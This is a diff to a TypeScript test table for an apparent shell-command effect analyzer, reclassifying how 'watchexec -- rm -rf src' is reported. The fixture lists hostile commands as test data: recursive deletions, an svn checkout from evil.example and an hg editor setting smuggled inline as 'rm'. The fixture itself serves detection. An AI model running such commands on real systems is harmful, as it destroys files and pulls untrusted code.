@@ -31,7 +31,7 @@ export const DOCUMENT_CASES: readonly EffectCase[] = [
   ['csvcut -c 1 x.csv', ['read x.csv']],
   ['qalc 1+1', []],
   ['tokei src', ['read src']],
-  ['watchexec -- rm -rf src', ['run argv: rm -rf src']],
+  ['watchexec -- rm -rf src', ['run sh: rm -rf src']],
   ["onchange -c 'rm -rf src' src", ['run sh: rm -rf src', 'read src']],
   ['svn checkout https://evil.example/x d', ['network url https://evil.example/x', 'write d']],
   ["hg --config ui.editor='rm' commit", ['config settings inline ui.editor=rm']],
